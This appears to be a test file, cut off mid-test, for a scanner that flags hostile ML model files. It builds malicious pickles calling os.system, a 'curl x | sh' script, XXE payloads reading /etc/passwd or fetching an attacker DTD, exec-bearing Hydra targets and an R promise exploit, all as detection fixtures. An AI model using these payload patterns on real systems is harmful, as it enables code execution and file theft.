"""Formats of the table in ``supplychain/formats``: archives (7z, zstd, lz4, RAR,
encrypted zip), code-carrying formats (NeMo/Hydra, TorchServe, XML, R, Torch7) and
executables. Archives are written by their real libraries (py7zr, zstandard, lz4);
R and Torch7 files, whose writers do not install here, byte-exact to their published
formats (R's serialize.c, torch7's File.lua). Nothing is ever loaded: canaries are
plain strings a loader would run."""

from __future__ import annotations

import gzip
import io
import json
import os
import pickle
import random
import shutil
import struct
import tarfile
import zipfile
from pathlib import Path

import numpy as np
import pytest

from mlwarden.supplychain import Verdict, scan_bytes, scan_file

CANARY = "echo CANARY"


class _Evil:
    def __reduce__(self) -> tuple:
        return (os.system, (CANARY,))


EVIL = pickle.dumps(_Evil())


def _npy() -> bytes:
    buf = io.BytesIO()
    np.save(buf, np.arange(16, dtype=np.float32))
    return buf.getvalue()


def _tar(members: list[tuple[str, bytes]], mode: str = "w") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as t:  # type: ignore[call-overload]
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _rules(res: object) -> set[str]:
    return {i.rule for i in res.findings}  # type: ignore[attr-defined]


# --- archives ---------------------------------------------------------------------------


def _7z(tmp_path: Path, members: dict[str, bytes], **kw: object) -> Path:
    py7zr = pytest.importorskip("py7zr")
    path = tmp_path / "a.7z"
    with py7zr.SevenZipFile(path, "w", **kw) as z:
        for name, data in members.items():
            z.writestr(data, name)
    return path


def test_pickle_inside_7z_is_unsafe(tmp_path: Path) -> None:
    res = scan_file(_7z(tmp_path, {"w.npy": _npy(), "sub/model.pkl": EVIL}))
    assert res.verdict is Verdict.UNSAFE
    assert any(i.member == "sub/model.pkl" and i.rule == "MLW-SCN-001" for i in res.findings)


def test_benign_7z_is_safe(tmp_path: Path) -> None:
    res = scan_file(_7z(tmp_path, {"w.npy": _npy(), "config.json": b'{"a": 1}'}))
    assert res.verdict is Verdict.SAFE and res.format == "7z"


@pytest.mark.parametrize("header", [False, True])
def test_encrypted_7z_is_an_error_never_safe(tmp_path: Path, header: bool) -> None:
    path = _7z(tmp_path, {"w.npy": _npy()}, password="pw", header_encryption=header)
    res = scan_file(path)
    assert res.verdict is Verdict.ERROR and "encrypted" in (res.error or "")


def test_7z_declaring_more_than_the_budget_is_not_extracted(tmp_path: Path) -> None:
    from mlwarden.supplychain import Limits

    path = _7z(tmp_path, {"zeros.bin": bytes(4 << 20)})
    res = scan_file(path, limits=Limits(archive_floor=1 << 20, archive_ratio=2.0))
    assert any(i.rule == "MLW-SCN-010" for i in res.findings)
    assert res.verdict is not Verdict.SAFE


@pytest.mark.parametrize("kind", ["zstd", "lz4"])
def test_pickle_in_compressed_tar_is_unsafe(kind: str) -> None:
    raw = _tar([("w.npy", _npy()), ("model.pkl", EVIL)])
    if kind == "zstd":
        import zstandard

        data = zstandard.ZstdCompressor().compress(raw)
    else:
        import lz4.frame

        data = lz4.frame.compress(raw)
    res = scan_bytes(data)
    assert res.verdict is Verdict.UNSAFE and res.format == f"tar+{kind}"


def test_zstd_bomb_stops_at_the_budget() -> None:
    import zstandard

    from mlwarden.supplychain import Limits

    tar = _tar([("zeros.bin", bytes(8 << 20)), ("model.pkl", EVIL)])
    data = zstandard.ZstdCompressor().compress(tar)
    assert len(data) < 4096
    res = scan_bytes(data, limits=Limits(max_total_bytes=1 << 20))
    assert res.verdict is Verdict.ERROR and "limit" in (res.error or "")


@pytest.mark.parametrize("kind", ["zstd", "lz4"])
def test_truncated_frame_is_an_error(kind: str) -> None:
    import lz4.frame
    import zstandard

    raw = _tar([("w.npy", _npy())])
    data = zstandard.ZstdCompressor().compress(raw) if kind == "zstd" else lz4.frame.compress(raw)
    assert scan_bytes(data).verdict is Verdict.SAFE
    assert scan_bytes(data[: len(data) - 9]).verdict is Verdict.ERROR


@pytest.mark.parametrize("kind", ["zstd", "lz4"])
def test_frames_back_to_back_are_all_scanned(kind: str) -> None:
    import lz4.frame
    import zstandard

    def pack(b: bytes) -> bytes:
        return zstandard.ZstdCompressor().compress(b) if kind == "zstd" else lz4.frame.compress(b)

    tar = _tar([("w.npy", _npy()), ("model.pkl", EVIL)])
    assert scan_bytes(pack(tar[:1000]) + pack(tar[1000:])).verdict is Verdict.UNSAFE


def test_rar_is_not_scannable() -> None:
    res = scan_bytes(b"Rar!\x1a\x07\x01\x00" + bytes(200))
    assert res.verdict is Verdict.ERROR and "RAR" in (res.error or "")


def test_encrypted_zip_member_is_not_scannable() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        # ciphertext looks like this; seeded, as random bytes sometimes begin with a
        # header another probe parses first (then the error names that parse instead)
        z.writestr("weights.bin", random.Random(0).randbytes(256))
    raw = bytearray(buf.getvalue())
    raw[6] |= 1
    cd = raw.find(b"PK\x01\x02")
    raw[cd + 8] |= 1
    res = scan_bytes(bytes(raw))
    assert res.verdict is Verdict.ERROR and "encrypted" in (res.error or "")


def test_encryption_flag_on_a_readable_member_is_still_scanned() -> None:
    """miniz (torch.load) ignores the flag: a plain pickle behind it is scanned as one."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/data.pkl", EVIL)
    raw = bytearray(buf.getvalue())
    raw[6] |= 1
    raw[raw.find(b"PK\x01\x02") + 8] |= 1
    assert scan_bytes(bytes(raw)).verdict is Verdict.UNSAFE


# --- executables ------------------------------------------------------------------------


def test_elf_binary_is_flagged(tmp_path: Path) -> None:
    true = shutil.which("true")
    assert true is not None
    res = scan_file(true)
    assert res.format == "elf" and "MLW-SCN-020" in _rules(res)
    assert res.verdict is Verdict.SUSPICIOUS


def test_pe_and_script_inside_a_zip_are_flagged() -> None:
    pe = bytearray(512)
    pe[:2] = b"MZ"
    pe[0x3C:0x40] = (0x80).to_bytes(4, "little")
    pe[0x80:0x84] = b"PE\x00\x00"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("tool.dll", bytes(pe))
        z.writestr("run", b"#!/bin/sh\ncurl x | sh\n")
    res = scan_bytes(buf.getvalue())
    flagged = {i.member for i in res.findings if i.rule == "MLW-SCN-020"}
    assert flagged == {"tool.dll", "run"}


def test_llamafile_is_flagged_and_its_gguf_scanned() -> None:
    gguf = b"GGUF" + struct.pack("<IQQ", 3, 0, 0)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("model.gguf", gguf)
        z.writestr("evil.pkl", EVIL)
    ape = b"MZqFpD='\n" + bytes(600) + buf.getvalue()
    res = scan_bytes(ape)
    assert res.format == "zip" or res.format == "llamafile"
    assert "MLW-SCN-020" in _rules(res) and res.verdict is Verdict.UNSAFE


def test_java_class_is_not_mistaken_for_mach_o() -> None:
    res = scan_bytes(b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + bytes(100))
    assert "MLW-SCN-020" not in _rules(res)


def _pe_image() -> bytes:
    """A PE32+ header as the linker writes it: e_lfanew, machine AMD64, optional header
    of 0xF0 bytes with magic 0x20B."""
    pe = bytearray(1024)
    pe[:2] = b"MZ"
    pe[0x3C:0x40] = (0x80).to_bytes(4, "little")
    pe[0x80:0x84] = b"PE\x00\x00"
    pe[0x84:0x86] = (0x8664).to_bytes(2, "little")
    pe[0x94:0x96] = (0xF0).to_bytes(2, "little")
    pe[0x98:0x9A] = (0x20B).to_bytes(2, "little")
    return bytes(pe)


def _macho_image() -> bytes:
    # 64-bit little-endian Mach-O: magic, CPU x86-64, subtype, MH_EXECUTE, 4 commands
    return b"\xcf\xfa\xed\xfe" + struct.pack("<iiIIII", 0x01000007, 3, 2, 4, 600, 0) + bytes(512)


def _weights_with(payload: bytes, at: int, total: int = 1 << 21) -> bytes:
    """float32 weights (seeded noise) with ``payload`` written at byte ``at``."""
    buf = bytearray(
        np.random.default_rng(1).standard_normal(total // 4).astype(np.float32).tobytes()
    )
    buf[at : at + len(payload)] = payload
    out = io.BytesIO()
    np.save(out, np.frombuffer(bytes(buf), dtype=np.float32))
    return out.getvalue()


@pytest.mark.parametrize("kind", ["elf", "pe", "macho"])
def test_an_executable_hidden_inside_weights_is_found(tmp_path: Path, kind: str) -> None:
    true = shutil.which("true")
    assert true is not None
    image = {
        "elf": Path(true).read_bytes()[:8192],
        "pe": _pe_image(),
        "macho": _macho_image(),
    }[kind]
    # across the boundary of the 1 MiB search windows, as well as well inside one
    for at in (4096, (1 << 20) - 20):
        path = tmp_path / f"{kind}{at}.npy"
        path.write_bytes(_weights_with(image, at))
        res = scan_file(path)
        assert res.verdict is Verdict.SUSPICIOUS, (kind, at, res.findings)
        assert "embedded inside the file" in res.findings[0].message


def test_an_executable_in_a_pickle_bytes_payload_is_found(tmp_path: Path) -> None:
    true = shutil.which("true")
    assert true is not None
    path = tmp_path / "m.pkl"
    path.write_bytes(pickle.dumps({"blob": b"header" + Path(true).read_bytes()}))
    res = scan_file(path)
    assert res.verdict is Verdict.SUSPICIOUS and "MLW-SCN-020" in _rules(res)


def test_magic_bytes_alone_in_weights_are_not_flagged(tmp_path: Path) -> None:
    """Magic numbers occur by chance in weights; only a whole consistent header counts."""
    noise = bytearray(_weights_with(b"", 0))
    for k, magic in enumerate([b"\x7fELF\x02\x01\x01", b"MZ", b"\xcf\xfa\xed\xfe", b"MZ\x90"]):
        at = 5000 + 70_000 * k
        noise[at : at + len(magic)] = magic
    pe = bytearray(_pe_image())
    pe[0x98:0x9A] = b"\x00\x00"  # no optional-header magic: not a PE
    noise[400_000 : 400_000 + len(pe)] = pe
    path = tmp_path / "w.npy"
    path.write_bytes(bytes(noise))
    assert scan_file(path).verdict is Verdict.SAFE


def test_the_embedded_search_is_bounded(tmp_path: Path) -> None:
    from mlwarden.supplychain.limits import Limits

    true = shutil.which("true")
    assert true is not None
    path = tmp_path / "w.npy"
    path.write_bytes(_weights_with(Path(true).read_bytes()[:4096], 3 << 20, total=4 << 20))
    assert scan_file(path, limits=Limits(max_exec_search=1 << 20)).verdict is Verdict.SAFE
    assert scan_file(path).verdict is Verdict.SUSPICIOUS


def test_the_one_pass_magic_search_finds_what_find_finds() -> None:
    """The translated single pass gives every magic's positions exactly as repeated
    ``bytes.find`` does: overlapping and adjacent magics, magics cut by the window bounds,
    look-alikes (a first byte followed by later-position bytes), and a flood of them."""
    from mlwarden.supplychain.formats.executable import _MAGICS, _each, _hits

    rng = np.random.default_rng(7)
    lookalikes = [b"PE\x00\xfe", b"\x7f\xfa\x00\x00", b"\xca\xed\x4c\x46", b"P\x00\x00\x00"]
    for trial in range(60):
        buf = bytearray(rng.integers(0, 256, int(rng.integers(0, 20_000)), dtype=np.uint8))
        for _ in range(int(rng.integers(0, 40))):
            piece = [*_MAGICS, *lookalikes, b"\x7fELF\x7fELF", b"PE\x00PE\x00\x00"][
                int(rng.integers(0, 10))
            ]
            at = int(rng.integers(0, len(buf) + 1))
            buf[at : at + len(piece)] = piece
        data = bytes(buf)
        lo = int(rng.integers(0, len(data) + 1))
        hi = int(rng.integers(lo, len(data) + 8))  # past the end as well
        hits = _hits(data, lo, hi)
        assert hits is not None, trial
        for magic in _MAGICS:
            assert hits[magic] == list(_each(data, magic, lo, hi)), (trial, magic)
    flood = b"P\x00\x00\x00" * 1000 + b"\x7fELF"
    assert _hits(flood, 0, len(flood)) is None
    assert list(_each(flood, b"\x7fELF", 0, len(flood))) == [4000]


def test_an_executable_behind_a_flood_of_look_alikes_is_found(tmp_path: Path) -> None:
    """An int tensor of 80s is ``P\\0\\0\\0`` over and over: the window falls back to
    the search magic by magic and still finds the ELF image after it."""
    true = shutil.which("true")
    assert true is not None
    ints = np.full(300_000, 80, dtype="<i4").tobytes()
    image = Path(true).read_bytes()[:8192]
    out = io.BytesIO()
    np.save(out, np.frombuffer(ints + image + bytes(8), dtype=np.uint8))
    path = tmp_path / "ints.npy"
    path.write_bytes(out.getvalue())
    res = scan_file(path)
    assert res.verdict is Verdict.SUSPICIOUS, res.findings
    assert "embedded inside the file" in res.findings[0].message


# --- NeMo / Hydra -----------------------------------------------------------------------

NEMO_CFG = b"""sample_rate: 16000
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  window_size: 0.025
optim:
  name: adam
  sched:
    _target_: torch.optim.lr_scheduler.CosineAnnealingLR
"""


def test_benign_nemo_checkpoint_is_safe() -> None:
    data = _tar([("./model_config.yaml", NEMO_CFG), ("./w.npy", _npy())], mode="w:gz")
    assert scan_bytes(data).verdict is Verdict.SAFE


def test_nemo_target_os_system_is_unsafe_with_the_reason() -> None:
    cfg = NEMO_CFG + b'decoder:\n  head:\n    _target_: os.system\n    _args_: ["echo CANARY"]\n'
    res = scan_bytes(_tar([("./model_config.yaml", cfg)], mode="w:gz"))
    assert res.verdict is Verdict.UNSAFE
    (hit,) = [i for i in res.findings if i.rule == "MLW-SCN-021"]
    assert "decoder.head" in hit.message and "os.system" in hit.message
    assert hit.member == "./model_config.yaml"


@pytest.mark.parametrize(
    ("target", "verdict"),
    [
        ("builtins.exec", Verdict.UNSAFE),
        ("hydra.utils.get_method", Verdict.UNSAFE),
        ("subprocess.run", Verdict.UNSAFE),
        ("mypkg.layers.Custom", Verdict.SUSPICIOUS),
        ("nemo.collections.nlp.models.TextClassificationModel", Verdict.SAFE),
    ],
)
def test_hydra_targets_are_classified(target: str, verdict: Verdict) -> None:
    # first key starting with 't': the text first goes through the pickle probe
    doc = f"trainer:\n  x:\n    - _target_: {target}\n      _partial_: true\n".encode()
    assert scan_bytes(doc, name="cfg.yaml").verdict is verdict


def test_yaml_alias_bomb_is_walked_once() -> None:
    lines = ["a0: &a0 {_target_: torch.nn.ReLU}"]
    lines += [f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}, *a{i - 1}]" for i in range(1, 40)]
    res = scan_bytes("\n".join(lines).encode() + b"\n")
    assert res.verdict is Verdict.SAFE and res.seconds < 5


# --- TorchServe -------------------------------------------------------------------------


def _mar(handler: str, **model: str) -> bytes:
    manifest = {
        "createdOn": "06/12/2026",
        "runtime": "python",
        "model": {"modelName": "m", "serializedFile": "m.pt", "handler": handler, **model},
        "archiverVersion": "0.12.0",
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("MAR-INF/MANIFEST.json", json.dumps(manifest))
        z.writestr("handler.py", "import os\nos.system('echo CANARY')\n")
    return buf.getvalue()


def test_torchserve_custom_handler_and_requirements_are_flagged() -> None:
    res = scan_bytes(_mar("handler.py", requirementsFile="requirements.txt"))
    messages = [i.message for i in res.findings if i.rule == "MLW-SCN-025"]
    assert any("handler.py" in m for m in messages)
    assert any("requirements.txt" in m for m in messages)
    assert res.verdict is Verdict.SUSPICIOUS


def test_torchserve_builtin_handler_is_safe() -> None:
    assert scan_bytes(_mar("image_classifier")).verdict is Verdict.SAFE


# --- XML --------------------------------------------------------------------------------

PMML = b'<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header/></PMML>\n'


def test_benign_pmml_and_openvino_ir_are_safe() -> None:
    res = scan_bytes(b'<?xml version="1.0"?>\n' + PMML)
    assert res.verdict is Verdict.SAFE and res.format == "pmml"
    ir = b'<?xml version="1.0"?>\n<net name="m" version="11"><layers/></net>\n'
    res = scan_bytes(ir)
    assert res.verdict is Verdict.SAFE and res.format == "openvino-ir"


@pytest.mark.parametrize(
    ("doc", "verdict"),
    [
        (b'<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>', "unsafe"),
        (b'<!DOCTYPE P [<!ENTITY % d SYSTEM "http://h/x.dtd"> %d;]><P/>', "unsafe"),
        (b'<!DOCTYPE PMML SYSTEM "http://attacker/x.dtd"><PMML/>', "suspicious"),
        (b'<!DOCTYPE l [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><l>&b;</l>', "suspicious"),
        (
            b'<net xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/>'
            b"</net>",
            "unsafe",
        ),
    ],
)
def test_xml_that_reaches_outside_is_flagged(doc: bytes, verdict: str) -> None:
    res = scan_bytes(b'<?xml version="1.0"?>\n' + doc)
    assert res.verdict.value == verdict and "MLW-SCN-022" in _rules(res)


def test_doctype_behind_a_long_comment_is_found() -> None:
    doc = b"<!--" + b"x" * (3 << 20) + b'-->\n<!DOCTYPE P [<!ENTITY x SYSTEM "file:///e">]><P/>'
    assert scan_bytes(b'<?xml version="1.0"?>\n' + doc).verdict is Verdict.UNSAFE


# --- R serialisations (R's serialize.c, XDR format) -------------------------------------


def _i(n: int) -> bytes:
    return struct.pack(">i", n)


def _char(text: str) -> bytes:
    data = text.encode()
    return _i(9 | (64 << 12)) + _i(len(data)) + data


def _sym(name: str) -> bytes:
    return _i(1) + _char(name)


NIL, GLOBALENV, UNBOUND = _i(254), _i(253), _i(252)


def _strs(*items: str) -> bytes:
    return _i(16) + _i(len(items)) + b"".join(_char(s) for s in items)


def _call(fn: str, *args: bytes) -> bytes:
    out = _i(6) + _sym(fn)
    for a in args:
        out += _i(2) + a
    return out + NIL


def _named_list(**items: bytes) -> bytes:
    out = _i(19 | (1 << 9)) + _i(len(items)) + b"".join(items.values())
    return out + _i(2 | (1 << 10)) + _sym("names") + _strs(*items) + NIL


def _rds(body: bytes, version: int = 3) -> bytes:
    enc = _i(5) + b"UTF-8" if version == 3 else b""
    return b"X\n" + _i(version) + _i(0x040300) + _i(0x030500) + enc + body


COEF = _i(14) + _i(3) + struct.pack(">3d", 0.5, -1.0, 2.0)


def test_r_data_object_is_safe() -> None:
    body = _named_list(coefficients=COEF, call=_call("lm", _sym("y")), names=_strs("a", "b"))
    res = scan_bytes(gzip.compress(_rds(body)))
    assert res.verdict is Verdict.SAFE and res.format == "rds+gzip"


def test_r_closure_calling_system_is_unsafe() -> None:
    closure = _i(3 | (1 << 10)) + GLOBALENV + NIL + _call("system", _strs(CANARY))
    res = scan_bytes(gzip.compress(_rds(_named_list(coefficients=COEF, predict=closure))))
    assert res.verdict is Verdict.UNSAFE
    assert any("system" in i.message for i in res.findings if i.rule == "MLW-SCN-023")


def test_r_plain_closure_is_suspicious() -> None:
    closure = _i(3 | (1 << 10)) + GLOBALENV + NIL + _call("exp", _sym("x"))
    assert scan_bytes(_rds(closure, version=2)).verdict is Verdict.SUSPICIOUS


def test_r_promise_is_unsafe_cve_2024_27322() -> None:
    promise = _i(5 | (1 << 10)) + GLOBALENV + UNBOUND + _call("print", _strs("x"))
    res = scan_bytes(_rds(_named_list(value=promise)))
    assert res.verdict is Verdict.UNSAFE and "CVE-2024-27322" in res.findings[0].message


def test_rdata_file_is_walked() -> None:
    promise = _i(5 | (1 << 10)) + GLOBALENV + UNBOUND + _call("system", _strs(CANARY))
    rda = b"RDX3\n" + _rds(_i(2 | (1 << 10)) + _sym("model") + promise + NIL)
    import bz2

    res = scan_bytes(bz2.compress(rda))
    assert res.verdict is Verdict.UNSAFE and res.format == "rdata+bz2"


def test_truncated_r_file_is_an_error() -> None:
    data = _rds(_named_list(coefficients=COEF))
    assert scan_bytes(data[:-12]).verdict is Verdict.ERROR


def test_r_nesting_bomb_is_an_error_not_a_crash() -> None:
    deep = (_i(19) + _i(1)) * 5000 + NIL
    res = scan_bytes(_rds(deep))
    assert res.verdict is Verdict.ERROR and "nested" in (res.error or "")


def _ascii(xdr: bytes) -> bytes:
    """The same stream in R's ASCII form (serialize.c OutInteger/OutString/OutReal),
    re-encoded from the XDR builders above by walking their integers."""
    from mlwarden.supplychain.formats.rserial import _Walk
    from mlwarden.supplychain.stream import Source

    out: list[bytes] = []

    class Recorder(_Walk):
        def i32(self) -> int:
            n = super().i32()
            out.append(b"NA\n" if n == -(1 << 31) else b"%d\n" % n)
            return n

        def values(self, t: int, n: int) -> None:
            for _ in range(n):
                if t == 14:
                    (v,) = struct.unpack(">d", self.src.read(8))
                    out.append(b"%.16g\n" % v)
                else:
                    self.i32()

        def text(self, n: int) -> str:
            data = self.src.read(n)
            esc = b"".join(bytes([c]) if 32 < c <= 126 and c != 92 else b"\\%03o" % c for c in data)
            out.append(esc + b"\n")
            return data.decode()

    walk = Recorder(Source(io.BytesIO(xdr[2:])), True)
    version = walk.i32()
    walk.i32(), walk.i32()
    if version == 3:
        walk.text(walk.i32())
    walk.item(0)
    return b"A\n" + b"".join(out)


def test_r_ascii_form_is_parsed_like_xdr() -> None:
    safe = _rds(_named_list(coefficients=COEF, label=_strs("two words\there")))
    res = scan_bytes(gzip.compress(_ascii(safe)))
    assert (res.verdict, res.format) == (Verdict.SAFE, "rds+gzip"), res.error
    closure = _i(3 | (1 << 10)) + GLOBALENV + NIL + _call("system", _strs(CANARY))
    res = scan_bytes(_ascii(_rds(_named_list(coefficients=COEF, predict=closure))))
    assert res.verdict is Verdict.UNSAFE and "system" in res.findings[0].message
    promise = _i(5 | (1 << 10)) + GLOBALENV + UNBOUND + _call("print", _strs("x"))
    rda = b"RDA3\n" + _ascii(_rds(_i(2 | (1 << 10)) + _sym("model") + promise + NIL))
    res = scan_bytes(rda)
    assert res.verdict is Verdict.UNSAFE and res.format == "rdata"


def test_r_ascii_strings_are_read_by_their_length_not_by_words() -> None:
    """R's InString reads the declared number of characters: a name written with a raw
    space (as a crafted file may) is one string, and the walk stays in step."""
    closure = _i(3 | (1 << 10)) + GLOBALENV + NIL + _call("system", _strs(CANARY))
    text = _ascii(_rds(closure, version=2))
    assert b"echo\\040CANARY" in text
    raw = text.replace(b"echo\\040CANARY", b"echo CANARY")
    res = scan_bytes(raw)
    assert res.verdict is Verdict.UNSAFE, res.error


@pytest.mark.parametrize("cut", [10, 40, -5])
def test_a_cut_r_ascii_file_is_an_error(cut: int) -> None:
    text = _ascii(_rds(_named_list(coefficients=COEF)))
    assert scan_bytes(text[:cut]).verdict is Verdict.ERROR


# --- Torch7 (torch7 File.lua, binary mode) ----------------------------------------------


def _li(n: int) -> bytes:
    return struct.pack("<i", n)


def _ls(text: bytes) -> bytes:
    return _li(len(text)) + text


def _t7_obj(index: int, cls: bytes, fields: bytes) -> bytes:
    return _li(4) + _li(index) + _ls(b"V 1") + _ls(cls) + fields


def _t7_linear(extra: bytes = b"", count: int = 1) -> bytes:
    storage = _li(4) + _li(4) + _ls(b"V 1") + _ls(b"torch.FloatStorage")
    storage += struct.pack("<q", 3) + bytes(12)
    tensor = _t7_obj(3, b"torch.FloatTensor", _li(1) + struct.pack("<qqq", 3, 1, 1) + storage)
    table = _li(3) + _li(2) + _li(count) + _li(2) + _ls(b"weight") + tensor + extra
    return _t7_obj(1, b"nn.Linear", table)


def test_torch7_model_is_safe() -> None:
    res = scan_bytes(_t7_linear())
    assert res.verdict is Verdict.SAFE and res.format == "torch7"


def test_torch7_function_is_unsafe() -> None:
    fn = _li(2) + _ls(b"forward") + _li(8) + _li(9) + _ls(b"\x1bLJ\x02bytecode") + _li(0)
    res = scan_bytes(_t7_linear(fn, count=2))
    assert res.verdict is Verdict.UNSAFE and "MLW-SCN-024" in _rules(res)


def test_torch7_foreign_class_is_suspicious() -> None:
    obj = _li(2) + _ls(b"layer") + _t7_obj(9, b"evil.Layer", _li(3) + _li(10) + _li(0))
    res = scan_bytes(_t7_linear(obj, count=2))
    assert res.verdict is Verdict.SUSPICIOUS
    assert any(i.global_ == "evil.Layer" for i in res.findings)


def test_truncated_torch7_is_an_error() -> None:
    assert scan_bytes(_t7_linear()[:-20]).verdict is Verdict.ERROR


# --- unknown formats and the policy choice ---------------------------------------------


def test_unknown_file_exits_2_unless_allowed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from mlwarden.cli.main import main

    (tmp_path / "blob.dat").write_bytes(bytes(range(256)) * 4)
    (tmp_path / "config.json").write_text('{"a": 1}')
    for extra, code in (([], 2), (["--allow-unknown"], 0)):
        with pytest.raises(SystemExit) as exc:
            main(["scan", str(tmp_path), "--format", "json", *extra])
        assert exc.value.code == code
        doc = json.loads(capsys.readouterr().out)
        verdicts = {Path(f["path"]).name: f["verdict"] for f in doc["files"]}
        assert verdicts == {"blob.dat": "unknown", "config.json": "safe"}


def test_openvino_weights_are_credited_to_their_ir(tmp_path: Path) -> None:
    from mlwarden.supplychain import scan_paths

    ir = b'<?xml version="1.0"?>\n<net name="m" version="11"><layers/></net>\n'
    (tmp_path / "openvino_model.xml").write_bytes(ir)
    (tmp_path / "openvino_model.bin").write_bytes(np.arange(64, dtype=np.float32).tobytes())
    (tmp_path / "stray.bin").write_bytes(np.arange(64, dtype=np.float32).tobytes())
    out = scan_paths([tmp_path])
    by_name = {Path(f.path).name: f for f in out.files}
    assert by_name["openvino_model.bin"].format == "openvino-weights"
    assert by_name["openvino_model.bin"].verdict is Verdict.SAFE
    assert by_name["stray.bin"].verdict is not Verdict.SAFE


# --- benign hub formats: recognised by content, never unknown ---------------------------


def _flax(state: dict) -> bytes:
    """What ``flax.serialization.to_bytes`` writes (arrays as extension type 1)."""
    msgpack = pytest.importorskip("msgpack")

    def ext(x: object) -> object:
        if isinstance(x, np.ndarray):
            tpl = (x.shape, x.dtype.name, x.tobytes("C"))
            return msgpack.ExtType(1, msgpack.packb(tpl, use_bin_type=True))
        raise TypeError(type(x))

    return msgpack.packb(state, default=ext, strict_types=True)


def test_flax_msgpack_is_safe() -> None:
    rng = np.random.default_rng(0)
    state = {
        "params": {
            "Dense_0": {"kernel": rng.normal(size=(256, 512)).astype(np.float32)},
            "Dense_1": {"bias": np.zeros(8, np.float32), "step": 3},
        }
    }
    data = _flax(state)
    assert len(data) > 1 << 19
    res = scan_bytes(data)
    assert res.verdict is Verdict.SAFE and res.format == "msgpack"
    assert scan_bytes(data[:-5]).verdict is not Verdict.SAFE


def test_a_pickle_wearing_a_msgpack_map_byte_is_still_a_pickle() -> None:
    # 0x8c is SHORT_BINUNICODE in pickle and fixmap(12) in MessagePack
    res = scan_bytes(b"\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R.")
    assert res.verdict is Verdict.UNSAFE


def test_mxnet_params_are_data() -> None:
    arr = (
        struct.pack("<IiI", 0xF993FAC9, 0, 1) + struct.pack("<q", 4) + struct.pack("<iii", 1, 0, 0)
    )
    body = struct.pack("<QQQ", 0x112, 0, 1) + arr + bytes(16)
    body += struct.pack("<QQ", 1, 5) + b"arg:w"
    assert scan_bytes(body).format == "mxnet-params"
    assert scan_bytes(body).verdict is Verdict.SAFE


def _lod_tensor(dtype: int, dims: tuple[int, ...], elem: int) -> bytes:
    desc = bytes([0x08, dtype]) + b"".join(bytes([0x10, d]) for d in dims)
    count = int(np.prod(dims))
    return struct.pack("<IQIi", 0, 0, 0, len(desc)) + desc + bytes(count * elem)


def test_paddle_pdiparams_are_walked_to_the_end() -> None:
    data = _lod_tensor(5, (2, 3), 4) + _lod_tensor(3, (4,), 8)
    res = scan_bytes(data)
    assert res.verdict is Verdict.SAFE and res.format == "paddle-params"
    assert scan_bytes(data + b"\x01").verdict is Verdict.ERROR
    assert scan_bytes(data[:-1]).verdict is Verdict.ERROR


def _pdmodel(op: bytes) -> bytes:
    opdesc = b"\x1a" + bytes([len(op)]) + op
    block = b"\x08\x00\x10" + b"\xff" * 9 + b"\x01" + b"\x22" + bytes([len(opdesc)]) + opdesc
    return b"\x0a" + bytes([len(block)]) + block + b"\x22\x02\x08\x00"


def test_paddle_program_py_func_is_flagged() -> None:
    assert scan_bytes(_pdmodel(b"matmul_v2")).verdict is Verdict.SAFE
    res = scan_bytes(_pdmodel(b"py_func"))
    assert res.format == "paddle-program" and res.verdict is Verdict.SUSPICIOUS


def test_tensorrt_engine_and_its_embedded_plugin_library() -> None:
    plan = b"ftrt" + bytes(3000)
    assert scan_bytes(plan).verdict is Verdict.SAFE
    true = shutil.which("true")
    assert true is not None
    res = scan_bytes(plan + Path(true).read_bytes()[:4096] + bytes(100))
    assert res.format == "tensorrt-engine" and "MLW-SCN-020" in _rules(res)
    header = json.dumps({"imgsz": [640, 640]}).encode()
    wrapped = len(header).to_bytes(4, "little") + header + plan
    assert scan_bytes(wrapped).format == "tensorrt-engine"


def test_executorch_and_coreml_blobs_are_data() -> None:
    assert scan_bytes(b"\x1c\x00\x00\x00ET12" + bytes(200)).format == "executorch"
    blob = struct.pack("<II", 1, 2) + bytes(56) + b"\xef\xbe\xad\xde" + bytes(100)
    assert scan_bytes(blob).format == "coreml-weights"


# --- ML-BOM -------------------------------------------------------------------------------


def test_sbom_is_valid_cyclonedx_1_6_with_every_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import hashlib

    import torch
    from cyclonedx.schema import SchemaVersion
    from cyclonedx.validation.json import JsonStrictValidator

    from mlwarden.cli.main import main

    folder = tmp_path / "snap"
    folder.mkdir()
    torch.save({"w": torch.zeros(3)}, folder / "pytorch_model.bin")
    (folder / "config.json").write_text('{"model_type": "bert"}')
    (folder / "evil.pkl").write_bytes(EVIL)
    bom_path = tmp_path / "bom.json"
    with pytest.raises(SystemExit) as exc:
        main(["scan", str(folder), "--sbom", str(bom_path), "--quiet"])
    assert exc.value.code == 1
    capsys.readouterr()
    text = bom_path.read_text()
    assert JsonStrictValidator(SchemaVersion.V1_6).validate_str(text) is None
    bom = json.loads(text)
    assert bom["specVersion"] == "1.6"
    comps = {Path(c["name"]).name: c for c in bom["components"]}
    assert set(comps) == {"pytorch_model.bin", "config.json", "evil.pkl"}
    assert comps["pytorch_model.bin"]["type"] == "machine-learning-model"
    assert comps["config.json"]["type"] == "data"
    sha = hashlib.sha256((folder / "evil.pkl").read_bytes()).hexdigest()
    assert {"alg": "SHA-256", "content": sha} in comps["evil.pkl"]["hashes"]
    props = {p["name"]: p["value"] for p in comps["evil.pkl"]["properties"]}
